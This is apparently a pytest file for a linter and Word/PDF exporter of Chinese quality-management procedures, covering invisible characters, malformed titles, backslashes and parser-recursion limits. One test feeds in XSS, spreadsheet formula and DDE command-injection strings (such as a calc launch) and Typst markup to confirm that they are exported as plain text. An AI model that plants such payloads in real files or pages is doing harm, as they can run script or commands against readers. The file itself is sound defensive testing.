        assert "<h5" in _rendered(project) and "##### " not in _rendered(project)


def test_qd025_is_worded_in_english(project: Project) -> None:
    in_english(project)
    line = body(project, "see [the register][ledger] and note[^9]")
    messages = findings(project, "QD025")
    assert [m.split(" QD025 ")[0] for m in messages] == [f"{DOC}:{line}: warning"] * 2, messages
    assert any("the reference-style link [the register][ledger] has no definition" in m for m in messages), messages
    assert any("the footnote marker [^9] has no definition" in m for m in messages), messages


def test_control_character_in_body_is_worded_in_english(project: Project) -> None:
    """In the project's language (qmsdoc.yml's, which load_config sets: setting the language before it did not)."""
    in_english(project)
    line = body(project, "Amount\x07 approved")
    message = findings(project, "QD021")
    assert message and message[0].startswith(f"{DOC}:{line}: error QD021 the body holds the control character"), \
        message
    assert "U+0007" in message[0], message


@pytest.mark.parametrize("text", ["路径 D:\\ 盘根目录", "甲 \\ 乙", "| 列 | 盘 |\n| --- | --- |\n| a | D:\\ 盘 |",
                                  "## 目录 D:\\ 盘", "双 \\\\\\ 三个反斜杠"])
def test_a_backslash_before_a_space_is_qd024(project: Project, text: str) -> None:
    """The dialect reads `\\ ` as an escaped space: the page and both copies left the backslash out, silently."""
    line = body(project, text)
    hits = [f for f in findings(project) if " QD024 " in f]
    assert [f.split(" warning ")[0] for f in hits] == [f"{DOC}:{line}:"], hits


def test_a_shown_or_meant_backslash_is_not_qd024(project: Project) -> None:
    body(project, "双 \\\\ 反斜杠 C:\\dir 末尾\\\n\nH^2\\ O^ 与 ~下\\ 标~ `D:\\ 盘`\n\n```\nD:\\ 盘\n```\n\n"
                  "<div>\nD:\\ 盘\n</div>")
    assert not [f for f in findings(project) if " QD024 " in f]


def test_qd024_is_worded_in_english(project: Project) -> None:
    in_english(project)
    line = body(project, "and \\ or")
    message = findings(project, "QD024")
    assert message and message[0].startswith(f"{DOC}:{line}: warning QD024 a backslash"), message


def test_tabs_and_line_endings_in_body_are_not_qd021(project: Project) -> None:
    body(project, "列一\t列二\n\n```\n\tcode\t缩进\n```")
    path = project.path(DOC)
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))  # Windows line endings
    assert not [f for f in findings(project) if "QD021" in f]


def test_two_manuals_with_one_id_are_qd014(project: Project) -> None:
    project.write("manuals/qp-hr2/index.md", project.read(MANUAL))
    assert_finding(project, "QD014", "manuals/qp-hr2/index.md", 2, "manuals/qp-hr/index.md")


@pytest.mark.parametrize("text", ["*" * 3000 + "强调" + "*" * 3000, "* " * 1000 + "列表", "[" * 3000 + "括号"])
def test_markdown_that_makes_the_renderer_recurse_is_qd011(project: Project, text: str) -> None:
    line = body(project, text)
    assert_finding(project, "QD011", DOC, line)


def test_a_thematic_break_and_bold_text_are_quiet(project: Project) -> None:
    body(project, "***\n\n**加粗** __强调__ [[QP-02-01]]")
    assert not [f for f in findings(project) if "QD011" in f]


@pytest.mark.parametrize("path,old,new", [
    (DOC, "title: 员工离职管理工作规程", "title: \"员工离职\\t管理工作规程\""),
    (DOC, "title: 员工离职管理工作规程", "title: '   '"),
    (DOC, "title: 员工离职管理工作规程", "title: '员工离职管理工作规程 '"),
    (DOC, "title: 员工离职管理工作规程", "title: " + "长" * 101),
    (FORM, "title: 员工离职申请表", "title: \"员工离职\\n申请表\""),
    (MANUAL, "title: 管家服务中心人事工作规程", "title: \"管家服务中心\\r人事工作规程\""),
])
def test_a_title_that_is_not_one_line_of_text_is_qd019(project: Project, path: str, old: str, new: str) -> None:
    """Titles are shown as written on pages, copy headers and registers: a tab, a line break, padding, a blank
    or a 5,000-character title reached them all (qmsdoc new --title took any of these)."""
    project.replace(path, old, new)
    assert_finding(project, "QD019", path, project.line_of(path, "title:"))


def test_a_title_with_markup_is_text_not_qd019(project: Project) -> None:
    project.replace(DOC, "title: 员工离职管理工作规程", "title: '<b>员工</b>离职 & 管理'")
    assert not [f for f in findings(project) if "QD019" in f]


@pytest.mark.parametrize("path,old,new,needle", [
    (FORM, "- {label: 姓名}", '- {label: "姓\\x01名"}', "label: \"姓"),
    (FORM, "- {label: 姓名}", '- {label: "姓\\n名"}', "label: \"姓"),
    (FORM, "- {label: 姓名}", "- {label: '  '}", "label: '  '"),
    (FORM, "- {label: 姓名}", "- {label: " + "名" * 101 + "}", "label: 名名"),
    (FORM, "signatures:", "table: {columns: [序号, \"物品\\r名称\"], rows: 2}\nsignatures:", "table:"),
    (FORM, "signatures: [申请人,", 'signatures: ["申请\\x7f人",', "signatures:"),
    (FORM, "retention: 3 年", 'retention: "3\\t年"', "retention:"),
    (DOC, "change: 增加辞退条款及离职面谈要求", 'change: "增加辞退条款\\n及离职面谈要求"', "change: \"增加"),
])
def test_form_and_change_texts_that_are_not_one_line_are_qd020(project: Project, path: str, old: str, new: str,
                                                               needle: str) -> None:
    """A form label, column, signature row, retention period or 修订记录 change is shown as written on the page,
    in the Word and PDF copies and in the registers: a line break was joined on the page and kept in the copies,
    a control character kept on the page and dropped from the copies, a blank label drew an empty cell."""
    project.replace(path, old, new)
    assert_finding(project, "QD020", path, project.line_of(path, needle))


def test_form_texts_with_markup_and_long_words_are_text_not_qd020(project: Project) -> None:
    project.replace(FORM, "- {label: 姓名}", "- {label: '<b>姓名</b> & #strong[x] $y$ =1+1'}")
    project.replace(FORM, "retention: 3 年", "retention: '" + "W" * 100 + "'")
    assert not [f for f in findings(project) if "QD020" in f]


@pytest.mark.parametrize("old,new,needle,words", [
    ("- {label: 离职原因, lines: 3, width: full}", "- {label: 离职原因, lines: 21, width: full}", "lines: 21",
     ("21", "至多为 20")),
    ("- {label: 离职原因, lines: 3, width: full}", "- {label: 离职原因, lines: 0, width: full}", "lines: 0",
     ("0", "至少为 1")),
    ("signatures: [申请人, 部门主管, 管家服务中心经理, 公司领导]",
     "table: {columns: [序号], rows: 61}\nsignatures: [申请人]", "rows: 61", ("61", "至多为 60")),
    ("- {label: 姓名}", "- {label: no}", "label: no", ("应为文字",)),
    ("signatures: [申请人, 部门主管, 管家服务中心经理, 公司领导]", "signatures: 申请人", "signatures:", ("应为列表",)),
])
def test_form_values_out_of_range_or_of_another_type_are_said_in_the_projects_words(
        project: Project, old: str, new: str, needle: str, words: tuple[str, ...]) -> None:
    """jsonschema's own English ("21 is greater than the maximum of 20", "应为 string") reached a Chinese check."""
    project.replace(FORM, old, new)
    hit = assert_finding(project, "QD004", FORM, project.line_of(FORM, needle), *words)
    assert not any(word in hit for word in ("greater", "less than", "string", "array", "integer", "object"))


# Beyond bidi and zero-width: the other format characters (U+2062 INVISIBLE TIMES, U+206A, tags), noncharacters
# (U+FDD0–FDEF, U+xFFFE/xFFFF in every plane) and private use, which the page, Word and PDF each show differently.
OTHER_INVISIBLE = {"\u2062": "格式字符", "\u206a": "格式字符", "\U000e0041": "格式字符", "\ufdd0": "非字符",
                   "\ue000": "私用区", "\U000f0001": "私用区"}
NONCHARACTERS_IN_BODY = ["\ufffe", "\uffff", "\ufdef", "\U0001fffe", "\U0010ffff"]


@pytest.mark.parametrize("char", sorted(OTHER_INVISIBLE))
def test_other_invisible_characters_in_front_matter_are_qd013(project: Project, char: str) -> None:
    project.replace(FORM, "- {label: 姓名}", f"- {{label: 姓{char}名}}")
    assert_finding(project, "QD013", FORM, project.line_of(FORM, "label: 姓"), f"U+{ord(char):04X}",
                   OTHER_INVISIBLE[char])


@pytest.mark.parametrize("escape", ["\\uFFFF", "\\U0001FFFE", "\\uE000", "\\u2064"])
def test_noncharacters_and_private_use_written_as_yaml_escapes_are_qd013(project: Project, escape: str) -> None:
    project.replace(FORM, "- {label: 姓名}", f'- {{label: "姓{escape}名"}}')
    assert_finding(project, "QD013", FORM, project.line_of(FORM, 'label: "姓'), "U+")


@pytest.mark.parametrize("char", [*sorted(OTHER_INVISIBLE), *NONCHARACTERS_IN_BODY])
def test_other_invisible_characters_in_body_are_qd013(project: Project, char: str) -> None:
    line = body(project, f"审批金额{char}一万元")
    assert_finding(project, "QD013", DOC, line, f"U+{ord(char):04X}")


def test_each_kind_of_invisible_character_on_a_line_is_named_at_once(project: Project) -> None:
    """Text pasted from Word often brings several: the officer sees them all in one check, not one per run."""
    line = body(project, "零宽\u200b字符\u200d与\ufeffBOM\u200b再一次")
    named = sorted(f.message.split("U+")[1][:4] for f in check(load_config(project.root)).findings
                   if f.code == "QD013" and f.line == line)
    assert named == ["200B", "200D", "FEFF"], named


@pytest.mark.parametrize("text", [
    "Persian می\u200cخواهم",            # ZWNJ keeps two Persian letters from joining
    "Hindi क्\u200dष and Malayalam ന്\u200d",  # ZWJ picks a Devanagari / Malayalam form
    "emoji \U0001f469\u200d\U0001f52c and flag \U0001f3f3\ufe0f\u200d\U0001f308",
])
def test_joiners_inside_a_word_of_their_script_or_an_emoji_are_not_qd013(project: Project, text: str) -> None:
    body(project, text)
    assert not [f for f in findings(project) if "QD013" in f]


def test_a_joiner_inside_a_persian_word_of_a_title_or_department_is_accepted(project: Project) -> None:
    """QD013, QD019 and the names' check decide alike: the joiner is part of the word."""
    project.revise(DOC, "title: 员工离职管理工作规程", "title: 员工离职管理工作规程 می\u200cخواهم")
    project.revise(DOC, "department: 管家服务中心", "department: می\u200cخواهم")
    assert not [f for f in findings(project) if any(code in f for code in ("QD013", "QD017", "QD019"))]


def test_a_joiner_beside_latin_letters_in_a_title_is_still_refused(project: Project) -> None:
    project.revise(DOC, "title: 员工离职管理工作规程", "title: 员工离职管理工作规程 Q\u200cP")
    assert_finding(project, "QD013", DOC, project.line_of(DOC, "title:"), "ZERO WIDTH NON-JOINER")


@pytest.mark.parametrize("text", ["QP\u200d-02-03", "QP-02\u200c-03", "审批\u200c金额", "\u200dمی", "\U0001f469\u200d"])
def test_joiners_beside_latin_digits_hanzi_or_at_a_word_edge_are_qd013(project: Project, text: str) -> None:
    line = body(project, f"见 {text} 条")
    assert_finding(project, "QD013", DOC, line, "ZERO WIDTH")


def test_a_private_use_character_is_explained_in_english(project: Project) -> None:
    in_english(project)
    line = body(project, "Amount \ue81e approved")
    message = findings(project, "QD013")
    assert message and message[0].startswith(f"{DOC}:{line}: error QD013 ") and "U+E81E" in message[0], message
    assert "private-use" in message[0] and "standard character" in message[0]


def test_soft_hyphens_and_visible_rare_characters_are_not_qd013(project: Project) -> None:
    """A soft hyphen is typography the page, Word and Typst treat alike; U+FFFD, an ideographic space, a hanzi
    outside the BMP and an emoji are visible text."""
    body(project, "Docu\u00admen\u00adtation 审批\ufffd金额\u3000\U00020000 \U0001f600")
    project.replace(FORM, "- {label: 姓名}", "- {label: 姓名\U00020000}")
    assert not [f for f in findings(project) if "QD013" in f]


def test_qd013_refuses_every_format_character_this_python_knows_but_the_soft_hyphen() -> None:
    """The set is written out (the page, Word and PDF must agree whatever Python runs the check); this is what
    keeps it from falling behind the Unicode database: every Cf but U+00AD, every noncharacter and private-use
    code point, and no letter, digit, punctuation, symbol or space."""
    import sys
    import unicodedata

    from qmsdoc.core.rules.characters import INVISIBLE

    missed, wrong = [], []
    for code in range(sys.maxunicode + 1):
        char = chr(code)
        category = unicodedata.category(char)
        refused = INVISIBLE.match(char) is not None
        noncharacter = 0xFDD0 <= code <= 0xFDEF or code & 0xFFFE == 0xFFFE
        if (category in ("Cf", "Co") or noncharacter) and code != 0xAD and not refused:
            missed.append(f"U+{code:04X}")
        elif category[0] in "LNPSZM" and refused:
            wrong.append(f"U+{code:04X}")
    assert not missed and not wrong, (missed[:10], wrong[:10])


def test_a_whole_manual_copy_as_of_a_day_shows_hostile_text_as_written(repo: Project, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """`copy MANUAL --as-of DAY` in Word and PDF: titles, a department, a change note and a cited form's title
    holding HTML, XML and Typst markup reach the cover, the contents, the member headers and the bodies as
    text (every Word part still parses; the PDF keeps its A4 pages and prints each one whole)."""
    import datetime as dt
    import re
    import subprocess
    import zipfile

    from lxml import etree

    from conftest import commit

    texts = {"manual": '#set page(width: 1pt)<img src=x>]\\$*&]]>', "title": '=HYPERLINK("http://x","y")#import "x"[*]',
             "department": "@SUM(1+1)#set text(size: 1pt)&]]", "change": "</script><script>alert(1)</script>]]>&amp;",
             "form": "+cmd|' /C calc'!A0<img src=x onerror=alert(1)>"}

    def quoted(value: str) -> str:
        return "'" + value.replace("'", "''") + "'"

    repo.revise(MANUAL, "title: 管家服务中心人事工作规程", f"title: {quoted(texts['manual'])}")
    repo.revise(DOC, "title: 员工离职管理工作规程", f"title: {quoted(texts['title'])}")
    repo.revise(DOC, "department: 管家服务中心", f"department: {quoted(texts['department'])}")
    repo.revise(DOC, "change: 增加辞退条款及离职面谈要求", f"change: {quoted(texts['change'])}")
    repo.revise(FORM, "title: 员工离职申请表", f"title: {quoted(texts['form'])}")
    commit(repo.root, "hostile")
    day = dt.date.today().isoformat()  # the history holds today's commit
    word, pdf = tmp_path / "QP-02.docx", tmp_path / "QP-02.pdf"
    for out in (word, pdf):
        result = run_cli("copy", "QP-02", "--as-of", day, "--out", str(out), cwd=repo.root)
        assert result.returncode == 0, result.stdout + result.stderr
    shown = ""
    with zipfile.ZipFile(word) as book:
        for part in (n for n in book.namelist() if n.endswith(".xml")):
            tree = etree.fromstring(book.read(part))  # raises on text that broke out of its element
            shown += "".join(tree.itertext()) if part.startswith("word/") else ""
    squeezed = re.sub(r"\s", "", subprocess.run(["pdftotext", "-enc", "UTF-8", str(pdf), "-"], capture_output=True,
                                                text=True, check=True).stdout)
    for name, value in texts.items():
        assert value in shown, name
        assert re.sub(r"\s", "", value) in squeezed, name
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert "595.276 x 841.89 pts (A4)" in info


def test_a_paragraph_of_unclosed_link_targets_is_qd011(project: Project) -> None:
    """Each `](` without its `)` is read to the end of its paragraph, once per `](`: 10,000 of them in 60 KB
    took minutes to parse. Past MAX_LINK_SCAN characters read the body is refused where the reading passes it."""
    from qmsdoc.core.i18n import t
    from qmsdoc.core.source import MAX_LINK_SCAN, link_scan_too_long

    opened = "[办事指南](guide.md " * 5000
    assert link_scan_too_long("说明\n\n" + opened) == 2
    line = body(project, opened)
    hit = assert_finding(project, "QD011", DOC, line)
    assert hit.endswith(t("load.QD011.links", limit=f"{MAX_LINK_SCAN:,}"))


def test_a_paragraph_of_closed_link_targets_is_quiet(project: Project) -> None:
    from qmsdoc.core.source import link_scan_too_long

    closed = "[办事指南](guide.md) (见 [附件](a.md)) " * 5000
    assert link_scan_too_long(closed) is None
    assert link_scan_too_long("[a](b\n\n" * 5000) is None  # an unclosed one is read to its own paragraph's end
    body(project, closed)
    assert not [f for f in findings(project) if " QD011 " in f]


def test_a_footnote_label_is_read_at_most_max_footnote_label_characters() -> None:
    """Unbounded, each `[^` of a line of them was read to the line's end (`[^` 40,000 times: a minute of QD025)."""
    from qmsdoc.core.rules.characters import _FOOTNOTE_MARK, MAX_FOOTNOTE_LABEL

    longest, longer = "n" * MAX_FOOTNOTE_LABEL, "n" * (MAX_FOOTNOTE_LABEL + 1)
    assert [m.group(1) for m in _FOOTNOTE_MARK.finditer(f"见[^{longest}]与[^{longer}]。")] == [longest]
    found = [m.group(1) for m in _FOOTNOTE_MARK.finditer("[^" * 5000 + "注1]")]
    assert len(found) == 1 and found[0].endswith("注1") and len(found[0]) <= MAX_FOOTNOTE_LABEL, found
